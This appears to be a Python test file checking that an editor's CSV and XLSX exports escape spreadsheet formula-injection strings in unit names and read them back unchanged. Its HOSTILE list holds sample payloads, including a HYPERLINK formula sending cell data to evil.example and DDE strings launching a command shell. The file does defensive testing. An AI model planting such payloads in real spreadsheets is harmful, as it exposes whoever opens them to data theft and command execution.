"""Formula injection (issue 10, item 9): names a spreadsheet would run are written as text."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from editor.io.cells import FORMULA_STARTS, csv_escape, csv_row, csv_unescape, text_not_formulas

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "'=already quoted",  # looks escaped: gets one more quote, so it reads back as it was
    "''+twice",
]
HARMLESS = ["城关镇", "Chengguan", "a=b", " =1", "'quoted", "1-2", "", "中心-东区"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_quoted_and_reads_back(text):
    cell = csv_escape(text)
    assert cell == "'" + text and not cell.startswith(FORMULA_STARTS)
    assert csv_unescape(cell) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text):
    assert csv_escape(text) == text and csv_unescape(text) == text


def test_numbers_stay_numbers():
    assert csv_row([-3, 2.5, None, "-x"]) == [-3, 2.5, "", "'-x"]


def test_csv_round_trip_through_the_csv_module():
    rows = [[t, "T1"] for t in HOSTILE + HARMLESS]
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    for r in rows:
        w.writerow(csv_row(r))
    back = [[csv_unescape(c) for c in r] for r in csv.reader(io.StringIO(buf.getvalue()))]
    assert back == rows
    for r in csv.reader(io.StringIO(buf.getvalue())):
        assert not r[0].startswith(FORMULA_STARTS)  # no cell a spreadsheet would evaluate


def test_xlsx_holds_strings_never_formulas(tmp_path):
    wb = Workbook()
    ws = wb.active
    for t in HOSTILE + HARMLESS:
        ws.append([t, 1])
    assert text_not_formulas(ws) == sum(t.startswith("=") for t in HOSTILE)
    path = tmp_path / "t.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    back = load_workbook(path).active
    # as typed (older openpyxl writes a bare CR raw, which XML reads back as LF;
    # newer ones escape it as _x000D_ and it comes back as CR)
    assert [(r[0].value or "").replace("\r", "\n") for r in back.iter_rows()] == [
        t.replace("\r", "\n") for t in HOSTILE + HARMLESS
    ]
    assert "f" not in {r[0].data_type for r in back.iter_rows()}


def test_tables_of_a_plan_with_hostile_unit_names(tmp_path):
    """The reported case: 17 live ``<f>`` cells in the XLSX, raw ``=`` cells in the CSV.
    Both tables now hold the names as text and read back as the same plan."""
    from editor.core.plan import Plan
    from editor.core.session import plan_from_assignment
    from editor.io.load import open_layer
    from editor.io.tables import export_table, import_assignment_table
    from tests.support import SAMPLE

    layer = open_layer(SAMPLE)
    hostile = HOSTILE[:4] + ["=1+1", "@A1", "-东区"]
    rows = [(str(layer.ids[t]), hostile[t % len(hostile)]) for t in range(layer.n)]
    plan, unmatched = plan_from_assignment(layer, rows)
    assert not unmatched and {u.name for u in plan.units.values()} == set(hostile)
    for kind in ("assignment", "units"):
        xlsx = export_table(plan, tmp_path / f"{kind}.xlsx", kind=kind)
        with zipfile.ZipFile(xlsx) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any("<f>" in s or "<f " in s for s in sheets)
        table = export_table(plan, tmp_path / f"{kind}.csv", kind=kind)
        text = table.read_text(encoding="utf-8-sig")
        for r in csv.reader(io.StringIO(text)):
            assert not any(c.startswith(FORMULA_STARTS) for c in r), r
    for name in ("assignment.csv", "assignment.xlsx"):
        again = Plan(layer)
        result = import_assignment_table(again, tmp_path / name)
        result.command.redo(again)
        assert sorted(u.name for u in again.units.values()) == sorted(
            u.name for u in plan.units.values()
        ), name
